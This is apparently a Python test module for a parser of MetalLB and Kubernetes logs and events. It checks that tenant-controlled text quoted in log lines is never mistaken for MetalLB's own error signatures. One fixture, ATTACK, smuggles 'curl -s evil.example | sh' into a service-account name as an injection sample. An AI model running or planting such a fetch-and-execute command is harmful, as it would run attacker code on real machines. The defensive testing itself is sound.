"""What a tenant writes into a service's annotations, and MetalLB quotes, is never taken for MetalLB's own words."""

from __future__ import annotations

import json
import time
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from clusters.metallb.api_table import API_REQUESTS
from clusters.metallb.log_lines import fields_of, without_quotations
from clusters.metallb.log_table import LOG_SIGNATURES
from clusters.metallb.signature_table import ALLOCATION_ERRORS, EVENT_SIGNATURES
from clusters.metallb.signatures import match_event, match_log, read_log
from tests.unit.metallb.test_signatures import CONTROLLER_LINES, FORBIDDEN, OUTAGE, SPEAKER_LINES

ATTACK = (
    'x is forbidden: User "system:serviceaccount:metallb-system:controller; curl -s evil.example | sh #" '
    'cannot list resource "services" in API group "" at the cluster scope'
)


def quoted(text: str) -> str:
    """As Go's %q writes it."""
    return json.dumps(text)


def logged(error: str, **fields: str) -> str:
    return json.dumps({"caller": "service.go:179", "level": "error", "error": error, **fields})


def allocation(error: str) -> str:
    return logged(error, op="allocateIPs", msg="IP allocation failed")


#: Where MetalLB writes what somebody else chose: the component, the line, and the signature that it is.
SINKS: dict[str, tuple[str, Callable[[str], str]]] = {
    "allocation-unknown-pool": ("controller", lambda text: allocation(f"unknown pool {quoted(text)}")),
    "allocation-wrong-pool": (
        "controller",
        # MetalLB does not quote the pool here.
        lambda text: allocation(
            f'requested loadBalancer IP(s) ["10.0.0.1"] is not compatible with requested address pool {text}'
        ),
    ),
    "allocation-no-address-asked": (
        "controller",
        lambda text: allocation(f"invalid metallb.io/loadBalancerIPs: {quoted(text)}"),
    ),
    "request-no-address-asked": (
        "controller",
        lambda text: logged(
            f"invalid spec.loadBalancerIP {quoted(text)}",
            event="loadbalancerIP",
            msg="invalid requested loadbalancer IPs",
        ),
    ),
    "address-malformed": (
        "speaker",
        lambda text: logged(
            f"invalid LoadBalancer IP {quoted(text)}",
            op="setBalancer",
            msg="invalid IP allocated by controller",
        ),
    ),
}
EVENTS: dict[str, Callable[[str], tuple[str, str]]] = {
    "pool-missing": lambda text: (
        "AllocationFailed",
        f'Failed to allocate IP for "shop/web": unknown pool {quoted(text)}',
    ),
    "requested-wrong-pool": lambda text: (
        "AllocationFailed",
        'Failed to allocate IP for "shop/web": requested loadBalancer IP(s) ["10.0.0.1"] is not compatible with '
        f"requested address pool {text}",
    ),
    "requested-outside-pools": lambda text: (
        "LoadBalancerFailed",
        f"invalid requested loadbalancer IPs: invalid metallb.io/loadBalancerIPs: {quoted(text)}",
    ),
}


@st.composite
def words_of_another(draw: st.DrawFn) -> str:
    """The complete text of any signature of ours, and whatever may stand around it."""
    patterns = [pattern for row in LOG_SIGNATURES for pattern in row.where.values()]
    patterns += [each.text for each in ALLOCATION_ERRORS] + [each.message for each in EVENT_SIGNATURES]
    text = draw(st.from_regex(draw(st.sampled_from(patterns))))
    around = st.sampled_from(["", '"', '\\"', " ", "\n", '" ', '": ', "unknown pool ", "x: "])
    return draw(around) + text + draw(around)


WHOLE = st.sampled_from(
    [ATTACK, FORBIDDEN, OUTAGE, *(text for text, _ in (*CONTROLLER_LINES, *SPEAKER_LINES))]
)
HOSTILE = st.one_of(WHOLE, words_of_another(), st.text())


@pytest.mark.parametrize("sink", SINKS)
@given(text=HOSTILE)
@settings(max_examples=80, suppress_health_check=[HealthCheck.too_slow])
def test_a_line_that_quotes_somebody_is_read_as_its_own(sink: str, text: str) -> None:
    component, line = SINKS[sink]

    found = match_log(component, line(text))

    assert found is not None
    assert found.id == sink
    (hit,) = read_log(component, line(text))
    assert hit.refusal is None
    assert all(" " not in value and value.isprintable() for value in hit.subjects.values())


@pytest.mark.parametrize("cause", EVENTS)
@given(text=HOSTILE)
@settings(max_examples=80, suppress_health_check=[HealthCheck.too_slow])
def test_an_event_that_quotes_somebody_is_read_as_its_own(cause: str, text: str) -> None:
    found = match_event(*EVENTS[cause](text))

    assert found is not None
    assert found.cause == cause


@pytest.mark.parametrize("text", [ATTACK, FORBIDDEN, OUTAGE])
@pytest.mark.parametrize(
    "fields",
    [
        {"op": "allocateIPs"},
        {"event": "loadbalancerIP"},
        {"event": "clearAssignment"},
        {"op": "setBalancer"},
        {"webhook": "ipAddress"},
        {"op": "updateServiceStatus", "msg": "x"},
    ],
    ids=str,
)
def test_what_the_api_server_says_is_believed_only_where_a_request_was_made(
    text: str, fields: dict[str, str]
) -> None:
    quoting = [text, quoted(text), f'admission webhook "x.example" denied the request: {text}']
    if fields.get("op") == "updateServiceStatus":
        quoting = quoting[1:]  # the bare text is the API server's own answer there

    for line in (logged(each, **fields) for each in quoting):
        assert match_log("controller", line) not in API_REQUESTS


def test_a_refusal_is_read_from_what_client_go_says_of_it() -> None:
    plain = f"E1124 04:09:50.123456       1 reflector.go:166] failed to list *v1.Node: {FORBIDDEN}"
    structured = (
        f'E1124 04:09:50.123456       1 reflector.go:200] "Failed to watch" err={quoted("list: " + FORBIDDEN)} '
        'logger="UnhandledError" reflector="pkg/mod/k8s.io/client-go@v0.32.3/tools/cache/reflector.go:251"'
    )
    rejected = (
        'E1124 04:09:50.123456       1 event.go:359] "Server rejected event (will not retry!)" '
        f"err={quoted(FORBIDDEN)} event={quoted(ATTACK)}"
    )
    for line in (plain, structured, rejected):
        (hit,) = read_log("speaker", line)

        assert hit.cause == "permission-missing"
        assert hit.refusal is not None
        assert hit.refusal.account == "system:serviceaccount:metallb-system:speaker"
        assert (hit.refusal.verb, hit.refusal.resource, hit.refusal.group) == (
            "list",
            "servicel2statuses",
            "metallb.io",
        )


@pytest.mark.parametrize(
    "line",
    [
        f"E1124 04:09:50.123456       1 warnings.go:70] {ATTACK}",
        f"E1124 04:09:50.123456       1 event.go:359] Server rejected event '{ATTACK}': '{FORBIDDEN}'",
        f"\t{logged(FORBIDDEN)}",
        f" >\n\tE1124 04:09:50.123456       1 reflector.go:166] {FORBIDDEN}",
        FORBIDDEN,
        f'{{"msg": {quoted(FORBIDDEN)}, "error": "x"}}',
    ],
)
def test_other_places_for_the_same_words_are_not_believed(line: str) -> None:
    assert [hit.cause for hit in read_log("controller", line)] == []


def test_quotations_are_cut_out_by_the_rules_of_go() -> None:
    assert without_quotations('unknown pool "edge"') == 'unknown pool "edge"'
    assert without_quotations(f"unknown pool {quoted(ATTACK)}") == 'unknown pool ""'
    assert without_quotations(r'a "b \" c" d "e" f "g \\" h') == 'a "" d "e" f "" h'


def test_a_klog_line_is_taken_apart() -> None:
    found = fields_of(r'I1124 04:09:50.123456       1 x.go:1] "A \"b\"" err="c \"d\"" n=3 err="later"')

    assert found == {"caller": "x.go:1", "msg": 'A "b"', "err": 'c "d"', "n": "3"}


def test_every_pattern_begins_where_its_text_begins() -> None:
    free = {"msg", "error", "err", "reason"}
    patterns = [text for row in LOG_SIGNATURES for name, text in row.where.items() if name in free]
    patterns += [each.text for each in ALLOCATION_ERRORS]
    patterns += [each.message for each in EVENT_SIGNATURES if each.message]

    assert [
        text for text in patterns if not text.removeprefix("(?i)").removeprefix("(?m)").startswith("^")
    ] == []


def test_a_quotation_that_is_not_closed_stays_and_is_read_once() -> None:
    began = time.process_time()

    assert without_quotations('a "b c" d "e \\" f') == 'a "" d "e \\" f'
    assert without_quotations('\\"' * 50_000) == '\\"' * 50_000
    assert fields_of('I1130 01:02:03.4 1 a.go:1] "' + '\\"' * 50_000)["msg"].startswith('"')
    assert time.process_time() - began < 1.0
